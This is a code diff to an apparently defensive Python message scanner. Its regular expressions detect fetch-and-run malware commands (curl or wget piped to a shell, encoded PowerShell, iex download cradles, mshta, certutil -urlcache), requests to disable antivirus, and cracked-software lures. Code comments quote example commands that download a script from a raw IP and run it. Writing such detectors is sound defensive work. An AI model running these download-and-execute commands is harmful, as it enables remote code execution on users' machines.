@@ -68,15 +68,19 @@ URGENCY = re.compile(
 ANTIVIRUS = re.compile(
     r"\b(?:disable|turn off|deactivate|switch off|uninstall|bypass) (?:your |the |windows )?"
     r"(?:anti-?virus|av|defender|firewall|smartscreen|gatekeeper|security software)\b", re.I)
+# The first branch, named "piped", is a script piped into a shell: where the
+# script comes from decides (links.check_links).
 EXPLOIT = re.compile(
-    r"(?:curl|wget|iwr|invoke-webrequest)\b[^\n|]{0,200}\|\s{0,3}(?:sudo\s{1,3})?(?:ba|z)?sh\b"
+    r"(?P<piped>(?:curl|wget|iwr|invoke-webrequest)\b[^\n|]{0,200}\|\s{0,3}(?:sudo\s{1,3})?(?:ba|z)?sh\b)"
     r"|\bpowershell(?:\.exe)?\s{1,3}-(?:enc|encodedcommand|e|w hidden|windowstyle hidden)\b"
     r"|\biex\s{0,3}\(\s{0,3}(?:new-object|iwr|invoke-webrequest)"
     r"|\bmshta\s{1,3}https?://|\bcertutil\s{1,3}-urlcache"
     r"|\b(?:free|cracked|keygen|crack)\b[^\n]{0,40}\b(?:download|exe|apk)\b", re.I)
 
-_PIPE_TO_SHELL = re.compile(r"curl|wget|iwr|invoke-webrequest", re.I)
-_IPV4 = re.compile(r"(?<![\d.])\d{1,3}(?:\.\d{1,3}){3}(?![\d.])")
+# A dotted IPv4 address standing alone: not inside a longer dotted run
+# ("1.2.3.4.5", a version) nor run into a word. policies.personal finds
+# people's addresses with it too.
+IPV4 = re.compile(r"(?<![\w.])(?:\d{1,3}\.){3}\d{1,3}(?![\w]|\.\d)")
 # Addresses no link parser sees as a host: "0xb9.0x17.0x2c.0x01", "[2a01:4f8::1]".
 _ODD_HOST = re.compile(r"\b0x[0-9a-f]+(?:\.0x[0-9a-f]+)*\b|\[[0-9a-f]*:[0-9a-f:]+\]", re.I)
 
@@ -498,13 +502,13 @@ def check_links(links, files, text: str, allowed_domains: frozenset[str],
         out.append(Finding("malware", "malware.disable_protection", 0.85, "high", m.start(), m.end(),
                            "Asks readers to turn off their security protection"))
     m = EXPLOIT.search(text) if vocab is None or not _EXPLOIT_GATE.isdisjoint(vocab) else None
-    if m and _PIPE_TO_SHELL.match(m.group()) and not _lure_in_text(text):
+    if m and m.group("piped") and not _lure_in_text(text):
         # Piped into a shell: where the script comes from decides. The hosts
         # in the command, else any in the message ("U=https://x.xyz/i; curl
         # $U | sh"); with none at all ("curl $URL | sh", a pasted log whose
         # link was cut) there is nothing to judge.
         sources = [(host, path) for host, path, lk in targets if m.start() <= lk.start < m.end()]
-        sources += [(ip, "") for ip in _IPV4.findall(m.group())]  # "wget -qO- 185.23.44.1/x.sh | sh"
+        sources += [(ip, "") for ip in IPV4.findall(m.group())]  # "wget -qO- 185.23.44.1/x.sh | sh"
         sources += [(odd, "") for odd in _ODD_HOST.findall(m.group())]  # hex and bracketed addresses
         sources = sources or [(host, path) for host, path, _ in targets]
         if all(script_source_known(host, path) for host, path in sources):
